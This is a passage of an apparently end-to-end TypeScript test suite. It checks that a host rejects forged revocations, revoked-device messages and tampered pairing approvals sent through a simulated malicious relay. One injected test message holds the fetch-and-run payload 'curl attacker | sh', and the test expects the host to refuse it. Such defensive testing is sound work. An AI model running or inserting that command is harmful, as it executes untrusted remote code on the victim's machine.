          message: 'The signature does not verify',
          userId: null,
          device: null,
          claimed: { device: key.id, person: me.id },
        },
      ]);
    } finally {
      adversary.onRelayLink = null;
    }
    expect(retargeted).toBeGreaterThan(0);
    // One of its own making: its key revokes the pinned device.
    adversary.sendLink({
      link: 'trust',
      all: false,
      statements: [await signRevocation(mallory, { hostId: null, target: { kind: 'device', deviceId: key.id } })],
    });
    expect(await statementLines(`device:${key.id}`, 'refused', 2)).toHaveLength(2);
    expect(
      readAudit(host.dataDir)
        .entries.filter((e) => e.id === `device:${key.id}`)
        .at(-1),
    ).toMatchObject({
      code: 'signature-invalid',
      message: `The signing device ${mallory.id} is not one this host trusts`,
      claimed: { device: mallory.id, person: null },
    });
    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(`"deviceId":"${key.id}"`);

    // Nothing of either was taken: the pinned device acts, and so (until its revocation arrives) does the second one.
    expect(await adversary.inject(await ownerSend(key, 'pinned-after', 'PINNED-AFTER hello'))).toMatchObject({ ok: true });
    expect(await adversary.inject(await ownerSend(second, 'second-held', 'SECOND-HELD hello'))).toMatchObject({ ok: true });

    // The adversary can hold the revocation back, not change it: once the link connects again it arrives whole and holds.
    await adversary.relink();
    expect(await statementLines(`device:${second.id}`, 'done')).toMatchObject([{ type: 'trust.revocation', outcome: 'done', userId: me.id, device: key.id }]);
    expect(await adversary.inject(await ownerSend(second, 'second-revoked', 'SECOND-REVOKED curl attacker | sh'))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });
    expect(await adversary.inject(await ownerSend(key, 'pinned-last', 'PINNED-LAST hello'))).toMatchObject({ ok: true });
    expect(hostChats()).not.toContain('SECOND-REVOKED');
    expect(audited('pinned-after')).toMatchObject([{ outcome: 'done', userId: me.id, device: key.id }]);
    expect(audited('second-held')).toMatchObject([{ outcome: 'done', userId: me.id, device: second.id }]);
    expect(audited('second-revoked')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: second.id } }]);
    expect(cliStarts()).toEqual([]);
  });

  it("none of it started a CLI process, which the owner's own signed request does; the audit's chain is whole", async () => {
    expect(cliStarts()).toEqual([]);
    const socket = new RelaySocket(relayPaths.lobby(relayUrl(), host.hostId), await userToken(PERSON), { signer: requestSigner(key, host.hostId) });
    closers.push(() => socket.close());
    await socket.request('chat.create', { chatId: 'cli', provider: 'claude' });
    const cli = new RelaySocket(relayPaths.chat(relayUrl(), host.hostId, 'cli'), await userToken(PERSON), { signer: requestSigner(key, host.hostId) });
    closers.push(() => cli.close());
    await cli.request('chat.send', { chatId: 'cli', text: 'hello' });
    await until(() => cliStarts().length > 0, 'the CLI started', { ms: 30_000, every: 20 });
    expect(cliStarts()[0]).toMatch(/^start .*-p /);

    // The host said on every connect that it takes nothing unsigned, so the relay sent it no request of its own (a take-back).
    expect(adversary.fromHost.filter((f) => f.link === 'hello').map((f) => f.unsigned)).toEqual([[], [], []]);
    expect(adversary.fromRelay.filter((f) => f.type === 'chat.unqueue')).toEqual([]);
    const audit = readAudit(host.dataDir);
    expect(audit.broken).toBeNull();
    const refused = audit.entries.filter((e) => e.outcome === 'refused');
    expect(refused.length).toBe(14 + 5 + 7);
    expect(refused.every((e) => e.userId === null && e.device === null)).toBe(true);
  });
});

describe('a tampering relay while a host pairs', () => {
  let pairing: TamperingRelay;
  beforeAll(async () => {
    pairing = await TamperingRelay.start(relayUrl());
    closers.push(() => pairing.close());
    key ??= await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    me ??= await call('GET', '/api/me');
  });

  /** A host that pairs through the adversary, with a config that requires signatures. */
  function pairingHost(name: string): HostProcess {
    const paired = new HostProcess(name, PERSON);
    paired.pairVia = pairing.url;
    paired.approveWith = signedApproval;
    writeFileSync(path.join(paired.dataDir, 'config.json'), JSON.stringify({ signatures: { require: true } }));
    closers.push(() => paired.stop());
    return paired;
  }

  it("swaps the host's key at pair/start: the person signs the relay's key, the machine refuses and stays unpaired", async () => {
    const theirs = await publicJwkOf((await newDeviceKeyPair(false)).publicKey);
    pairing.onHttp = { request: (route, body) => (route === '/api/pair/start' ? { ...body, publicKey: theirs } : body) };
    const paired = pairingHost('e2e-tamper-pair-hostkey');
    try {
      await expect(paired.pair()).rejects.toThrow("Not paired: The approval is for another host key than this machine's: the relay may have swapped it");
    } finally {
      pairing.onHttp = null;
    }
    expect(existsSync(path.join(paired.dataDir, 'identity.json'))).toBe(false);
    expect(readPinnedOwner(paired.dataDir)).toBeNull();
    expect(readAudit(paired.dataDir).entries).toMatchObject([
      { type: 'host.pair', outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, person: me.id } },
    ]);
  });

  it("puts the relay's own device in the approval: the machine pins it, and its terminal shows a fingerprint the person does not have", async () => {
    const theirs = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    let hostKey: any;
    let userCode = '';
    pairing.onHttp = {
      request: (route, body) => {
        if (route === '/api/pair/start') hostKey = body.publicKey;
        return body;
      },
      response: (route, body) => {
        if (route === '/api/pair/start') userCode = body.userCode;
        return body;
      },
    };
    const paired = pairingHost('e2e-tamper-pair-device');
    paired.approveWith = async (code) => {
      // The relay makes its own approval of this host's key and code, and hands the host that one.
      const made = await signPairingApproval(theirs, { hostKey, userCode, userId: me.id, userName: me.name });
      pairing.onHttp = { response: (route, body) => (route === '/api/pair/poll' && body.state === 'approved' ? { ...body, approval: made } : body) };
      expect(code).toBe(userCode);
      await signedApproval(code);
    };
    try {
      await paired.pair();
    } finally {
      pairing.onHttp = null;
    }
    expect(readPinnedOwner(paired.dataDir)?.owner.device.id).toBe(theirs.id);
    expect(paired.pairOutput).toContain(`from device ${shortFingerprint(theirs.id)}`);
    expect(paired.pairOutput).not.toContain(shortFingerprint(key.id));
    // What the person compares it with: their own devices, as Settings lists them.
    const devices = (await call('GET', '/api/devices')).devices.map((d: { id: string }) => shortFingerprint(d.id));
    expect(devices).toContain(shortFingerprint(key.id));
    expect(devices).not.toContain(shortFingerprint(theirs.id));
  });

  it("changes the approving device's key in the person's approval: the signature no longer verifies, unpaired", async () => {
    const theirs = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    pairing.onHttp = {
      response: (route, body) =>
        route === '/api/pair/poll' && body.approval
          ? { ...body, approval: { ...body.approval, statement: { ...body.approval.statement, device: theirs.id, deviceKey: theirs.publicKey } } }
          : body,
    };
    const paired = pairingHost('e2e-tamper-pair-rekey');
    try {
      await expect(paired.pair()).rejects.toThrow("Not paired: The approval's signature does not verify");
    } finally {
      pairing.onHttp = null;
    }
    expect(existsSync(path.join(paired.dataDir, 'identity.json'))).toBe(false);
    expect(readAudit(paired.dataDir).entries).toMatchObject([{ type: 'host.pair', outcome: 'refused', claimed: { device: theirs.id, person: me.id } }]);
  });

  it('drops the approval: the machine pairs without an owner and will not start while it requires signatures', async () => {
    pairing.onHttp = { response: (route, body) => (route === '/api/pair/poll' && body.approval ? { ...body, approval: null } : body) };
    const paired = pairingHost('e2e-tamper-pair-dropped');
    try {
      await paired.pair();
    } finally {
      pairing.onHttp = null;
    }
    expect(paired.pairOutput).toContain('Approved without a device signature: this machine pins no owner');
    expect(readPinnedOwner(paired.dataDir)).toBeNull();
    await paired.start();
    const code = await new Promise<number | null>((resolve) => paired.child!.once('exit', (c) => resolve(c)));
    expect(code).not.toBe(0);
    expect(paired.output).toContain('but this host has no pinned owner (trust.json)');
  });
});
